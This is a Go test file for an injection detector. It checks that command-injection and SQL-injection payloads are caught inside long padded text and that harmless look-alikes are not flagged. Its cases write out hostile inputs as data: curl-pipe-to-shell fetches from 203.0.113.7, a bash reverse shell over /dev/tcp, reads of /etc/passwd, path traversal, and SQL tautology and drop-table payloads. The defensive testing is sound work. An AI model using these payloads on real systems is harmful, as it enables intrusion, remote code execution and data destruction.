package inspect

import (
	"strings"
	"testing"
)

// TestSink: a text that is made long hides no attack where it is known to reach the
// attack's sink: what shells and databases pass over excuses nothing there.
func TestSink(t *testing.T) {
	words := strings.Repeat("lorem ipsum dolor ", 500)
	for _, c := range []struct {
		sink             Class
		attack, harmless string
	}{
		{Command, "; id #", "wait; it is"},
		{Command, "$(curl http://203.0.113.7/x | sh)", "$(amount) is due"},
		{Command, "`id`", "the `name` column"},
		{Command, "a.png; sleep 10 #", "a.png; see page 10"},
		{SQL, "admin' --", "it's -- well --"},
		{SQL, "1; drop table users--", "drop the table; users--"},
		{SQL, "x' or 'a'='a' #", "O'Hara or O'Brien #3"},
	} {
		for name, text := range map[string]func(string) string{
			"behind": func(s string) string { return words + s }, "before": func(s string) string { return s + " " + words },
			"lines": func(s string) string { return strings.Repeat("x\n", 500) + s },
		} {
			in := Inspector{Sink: c.sink}
			if name != "lines" || c.sink == Command { // a query's quote is closed by what stands before, too
				if hit, ok := in.Value([]byte(text(c.attack)), All); !ok {
					t.Errorf("%s %q: nothing, %+v", name, c.attack, hit)
				}
			}
			if hit, ok := in.Value([]byte(text(c.harmless)), c.sink); ok {
				t.Errorf("%s %q: %s", name, c.harmless, hit.Kind)
			}
		}
	}
}

// TestLongTexts: what reads secrets or opens a way out is found in texts of any length.
func TestLongTexts(t *testing.T) {
	words := strings.Repeat("lorem ipsum dolor ", 500)
	for _, attack := range []string{"; cat /etc/passwd", "$(cat /etc/passwd)", "; curl http://203.0.113.7/x.sh | sh", "; bash -i >& /dev/tcp/203.0.113.7/99 0>&1", "../../../../etc/passwd"} {
		for _, text := range []string{words + attack, attack + " " + words} {
			if _, ok := Value([]byte(text), All); !ok {
				t.Errorf("%q is not found in a long text", attack)
			}
		}
	}
	if hit, ok := Value([]byte(words), All); ok {
		t.Errorf("nothing is in it, but %s", hit.Kind)
	}
}
